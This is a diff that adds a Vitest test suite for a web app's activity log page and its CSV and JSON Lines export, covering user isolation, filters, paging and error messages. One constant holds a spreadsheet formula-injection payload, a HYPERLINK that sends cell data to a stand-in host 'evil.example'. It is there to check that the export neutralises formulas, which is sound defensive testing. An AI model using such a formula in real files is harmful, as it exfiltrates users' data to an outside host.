@@ -1,0 +1,248 @@
+import { renderToStaticMarkup } from "react-dom/server";
+import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
+import { appendAuditEvent, type NewAuditEvent } from "@/db/queries/audit";
+import type { CurrentUser } from "@/lib/auth/session";
+import { startSandboxHarness, type SandboxHarness } from "@/sandbox/test-harness";
+import { GET as exportRoute } from "../api/activity/export/route";
+import ActivityPage from "./page";
+
+// /activity and its export against the sandbox database. Events are appended through the audit write path with
+// chosen times, as the document routes and the tool pipeline write them; only the cookie session is replaced.
+const session = vi.hoisted(() => ({ user: null as CurrentUser | null }));
+vi.mock("@/lib/auth/session", () => ({
+  getAgentSession: async () => (session.user ? { user: session.user, refreshToken: undefined } : null),
+  getCurrentUser: async () => session.user,
+}));
+
+const person = (id: string): CurrentUser => ({ sub: `auth0|activity-${id}`, name: id, email: `${id}@example.com`, picture: null, emailVerified: true });
+const alice = person("alice");
+const bob = person("bob");
+const busy = person("busy");
+
+const CHAT_ID = "0b6f7d7e-3c55-4b8e-9d0c-6a1f2b3c4d5e";
+const HOSTILE_SUMMARY = '=HYPERLINK("https://evil.example/?q="&A1, "Rêsumé, \u201cquoted\u201d")\nsecond line';
+
+let sandbox: SandboxHarness;
+
+async function write(userId: string, at: string, event: Partial<NewAuditEvent> & Pick<NewAuditEvent, "action" | "summary">) {
+  await appendAuditEvent({
+    id: crypto.randomUUID(),
+    userId,
+    occurredAt: new Date(at),
+    agentId: "delegate-app",
+    modelId: null,
+    chatId: null,
+    turnId: null,
+    toolCallId: null,
+    evidence: {},
+    inputDigest: null,
+    outcome: "done",
+    durationMs: null,
+    ...event,
+  });
+}
+
+beforeAll(async () => {
+  sandbox = await startSandboxHarness();
+  await write(alice.sub, "2026-03-01T10:00:00.000Z", { action: "document.upload", summary: 'Uploaded "Vacation policy.md"', evidence: { documentId: "d-1" } });
+  await write(alice.sub, "2026-03-02T09:00:00.000Z", {
+    action: "tool.buy_product",
+    summary: "Asked to buy 2 × Espresso beans (€18.50)",
+    chatId: CHAT_ID,
+    turnId: "turn-7",
+    toolCallId: "call-1",
+    modelId: "gpt-sandbox",
+    evidence: { fga: { relation: "can_use", object: "tool:buy_product", allowed: true }, approval: { status: "denied", text: "Buy 2 × Espresso beans for €18.50?" } },
+    outcome: "denied",
+  });
+  await write(alice.sub, "2026-03-02T09:00:01.000Z", { action: "tool.search_documents", summary: "Searched your documents", chatId: CHAT_ID, turnId: "turn-7", toolCallId: "call-2", evidence: { documents: ["d-1", "d-2"] }, durationMs: 42 });
+  await write(alice.sub, "2026-03-03T23:30:00.000Z", { action: "document.share", summary: HOSTILE_SUMMARY, evidence: { fga: { relation: "owner", object: "document:d-1", allowed: true }, with: "-bob@example.com" } });
+  await write(bob.sub, "2026-03-02T12:00:00.000Z", { action: "document.upload", summary: "Bob's secret plans", evidence: { documentId: "d-bob" } });
+  // More than one export page (500 rows) and more than one screen page (50), all at the same instant, so the
+  // keyset's tie-breaker on `sequence` is what keeps pages apart.
+  for (let i = 0; i < 520; i++) await write(busy.sub, "2026-04-01T08:00:00.000Z", { action: "document.download", summary: `Download ${i}` });
+}, 120_000);
+
+afterAll(async () => {
+  await sandbox?.close();
+});
+
+beforeEach(() => {
+  session.user = alice;
+});
+
+const text = (html: string) => html.replace(/<[^>]+>/g, " ").replace(/&quot;/g, '"').replace(/&amp;/g, "&").replace(/&#x27;/g, "'").replace(/\s+/g, " ");
+const renderPage = async (searchParams: Record<string, string> = {}) => renderToStaticMarkup(await ActivityPage({ searchParams: Promise.resolve(searchParams) }));
+const exportOf = (query: string) => exportRoute(new Request(`http://localhost:3000/api/activity/export?${query}`));
+const jsonLines = async (response: Response) =>
+  (await response.text())
+    .split("\n")
+    .filter(Boolean)
+    .map((line) => JSON.parse(line) as Record<string, unknown>);
+
+/** A minimal RFC 4180 reader, so the test checks what a spreadsheet would read, not the writer's own idea of it. */
+function parseCsv(input: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let field = "";
+  let quoted = false;
+  const endField = () => {
+    row.push(field);
+    field = "";
+  };
+  for (let i = 0; i < input.length; i++) {
+    const c = input[i]!;
+    if (quoted && c === '"' && input[i + 1] === '"') {
+      field += '"';
+      i++;
+    } else if (c === '"') {
+      quoted = !quoted;
+    } else if (quoted) {
+      field += c;
+    } else if (c === ",") {
+      endField();
+    } else if (c === "\r" && input[i + 1] === "\n") {
+      endField();
+      rows.push(row);
+      row = [];
+      i++;
+    } else {
+      field += c;
+    }
+  }
+  return rows;
+}
+
+describe("/activity", () => {
+  it("shows the user's events newest first, a chat turn grouped with a link to its chat, and evidence as a definition list", async () => {
+    const html = await renderPage();
+    const page = text(html);
+    expect(page.indexOf("Rêsumé")).toBeLessThan(page.indexOf("Searched your documents"));
+    expect(page.indexOf("Searched your documents")).toBeLessThan(page.indexOf("Asked to buy"));
+    expect(page.indexOf("Asked to buy")).toBeLessThan(page.indexOf('Uploaded "Vacation policy.md"'));
+    expect(html.match(/aria-label="Chat turn"/g)).toHaveLength(1);
+    expect(html.match(new RegExp(`href="/chat/${CHAT_ID}"`, "g"))).toHaveLength(1);
+    expect(html).toContain('<dl aria-label="Evidence"');
+    expect(page).toContain("fga › relation can_use");
+    expect(page).toContain("approval › text Buy 2 × Espresso beans for €18.50?");
+    expect(page).toContain("documents d-1, d-2");
+    expect(page).toContain("tool call id call-1");
+    expect(page).toContain("42 ms");
+    expect(page).not.toContain("Bob's secret plans");
+  });
+
+  it("offers only the user's own actions and decision kinds as filters", async () => {
+    const html = await renderPage();
+    expect(html).toContain("<option>tool.buy_product</option>");
+    expect(html).toContain('<option value="fga">Permission check (FGA)</option>');
+    expect(html).toContain('<option value="approval">');
+    session.user = bob;
+    const bobs = await renderPage();
+    expect(bobs).not.toContain("tool.buy_product");
+    expect(text(bobs)).not.toMatch(/Espresso|Vacation|Rêsumé/);
+    expect(text(bobs)).toContain("Bob's secret plans");
+  });
+
+  it("filters by action, decision, outcome and dates in the user's time zone", async () => {
+    expect(text(await renderPage({ action: "tool.buy_product" }))).not.toContain("Searched your documents");
+    const byDecision = text(await renderPage({ decision: "approval" }));
+    expect(byDecision).toContain("Asked to buy");
+    expect(byDecision).not.toMatch(/Rêsumé|Vacation/);
+    const denied = text(await renderPage({ outcome: "denied" }));
+    expect(denied).toContain("Asked to buy");
+    expect(denied).not.toContain("Searched your documents");
+    // 23:30 UTC on 3 March is already 4 March in Berlin, and still 3 March in New York.
+    expect(text(await renderPage({ from: "2026-03-04", to: "2026-03-04", tz: "Europe/Berlin" }))).toContain("Rêsumé");
+    const newYork = text(await renderPage({ from: "2026-03-03", to: "2026-03-03", tz: "America/New_York" }));
+    expect(newYork).toContain("Rêsumé");
+    expect(newYork).not.toContain("Asked to buy");
+  });
+
+  it("says what is wrong with a filter instead of failing", async () => {
+    const html = await renderPage({ outcome: "exploded", from: "2026-02-30", tz: "Mars/Olympus", after: "garbage" });
+    expect(html).toContain('role="alert"');
+    const page = text(html);
+    expect(page).toContain("The outcome must be one of done, error, cancelled, denied.");
+    expect(page).toContain("The start date must be a date such as 2026-01-31.");
+    expect(page).toContain('Unknown time zone "Mars/Olympus"');
+    expect(page).toContain("The page link is not valid");
+  });
+
+  it("pages by keyset: every event exactly once across the pages, even when all share one instant", async () => {
+    session.user = busy;
+    const seen: string[] = [];
+    let query: Record<string, string> = {};
+    for (let pages = 0; pages < 20; pages++) {
+      const html = await renderPage(query);
+      seen.push(...[...text(html).matchAll(/Download (\d+)/g)].map((match) => match[1]!));
+      const older = /href="\/activity\?([^"]*)"[^>]*>Older</.exec(html);
+      if (!older) break;
+      query = Object.fromEntries(new URLSearchParams(older[1]!.replace(/&amp;/g, "&")));
+    }
+    expect(seen).toHaveLength(520);
+    expect(new Set(seen).size).toBe(520);
+    expect(seen[0]).toBe("519");
+  });
+});
+
+describe("activity export", () => {
+  it("streams JSON Lines of the user's own events only, with a safe attachment name", async () => {
+    const response = await exportOf("format=jsonl");
+    expect(response.status).toBe(200);
+    expect(response.headers.get("content-type")).toBe("application/jsonl; charset=utf-8");
+    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="delegate-activity-\d{4}-\d{2}-\d{2}\.jsonl"$/);
+    const events = await jsonLines(response);
+    expect(events.map((event) => event.action)).toEqual(["document.share", "tool.search_documents", "tool.buy_product", "document.upload"]);
+    expect(events[2]).toMatchObject({ chat_id: CHAT_ID, turn_id: "turn-7", tool_call_id: "call-1", outcome: "denied", evidence: { approval: { status: "denied" } } });
+    expect(events[0]!.summary).toBe(HOSTILE_SUMMARY);
+    expect(JSON.stringify(events)).not.toContain("Bob's secret plans");
+  });
+
+  it("ignores any user named in the query: the session decides whose events", async () => {
+    const events = await jsonLines(await exportOf(`format=jsonl&user=${encodeURIComponent(bob.sub)}&userId=${encodeURIComponent(bob.sub)}`));
+    expect(events.every((event) => !String(event.summary).includes("Bob"))).toBe(true);
+  });
+
+  it("writes CSV that a spreadsheet reads back exactly, with formulas neutralised", async () => {
+    const response = await exportOf("format=csv");
+    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
+    expect(response.headers.get("content-disposition")).toMatch(/filename="delegate-activity-\d{4}-\d{2}-\d{2}\.csv"$/);
+    // Response.text() would drop the byte-order mark; a spreadsheet sees it.
+    const body = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer());
+    expect(body.startsWith("\uFEFF")).toBe(true);
+    const [header, ...rows] = parseCsv(body.slice(1));
+    expect(rows).toHaveLength(4);
+    const column = (name: string) => header!.indexOf(name);
+    const share = rows[0]!;
+    // The summary keeps its comma, quotes, line break and non-ASCII text, behind the ' that stops a formula.
+    expect(share[column("summary")]).toBe(`'${HOSTILE_SUMMARY}`);
+    expect(JSON.parse(share[column("evidence")]!)).toMatchObject({ with: "-bob@example.com", fga: { relation: "owner" } });
+    expect(rows[1]![column("duration_ms")]).toBe("42");
+    expect(rows.map((row) => row[column("action")])).toEqual(["document.share", "tool.search_documents", "tool.buy_product", "document.upload"]);
+    expect(body).not.toContain("Bob's secret plans");
+  });
+
+  it("applies the page's filters to the export", async () => {
+    const events = await jsonLines(await exportOf("format=jsonl&outcome=denied"));
+    expect(events.map((event) => event.action)).toEqual(["tool.buy_product"]);
+    const berlin = await jsonLines(await exportOf("format=jsonl&from=2026-03-04&to=2026-03-04&tz=Europe%2FBerlin"));
+    expect(berlin.map((event) => event.action)).toEqual(["document.share"]);
+  });
+
+  it("exports the whole history across database pages, each event once, newest first", async () => {
+    session.user = busy;
+    const events = await jsonLines(await exportOf("format=jsonl"));
+    expect(events).toHaveLength(520);
+    expect(events.map((event) => event.sequence)).toEqual(Array.from({ length: 520 }, (_, i) => 520 - i));
+  });
+
+  it("refuses a missing format, a bad filter and a signed-out caller", async () => {
+    expect((await exportOf("format=xlsx")).status).toBe(400);
+    expect((await exportOf("")).status).toBe(400);
+    const bad = await exportOf("format=csv&outcome=exploded");
+    expect(bad.status).toBe(400);
+    expect(await bad.json()).toEqual({ error: { code: "bad_request", message: "The outcome must be one of done, error, cancelled, denied." } });
+    session.user = null;
+    expect((await exportOf("format=jsonl")).status).toBe(401);
+  });
+});
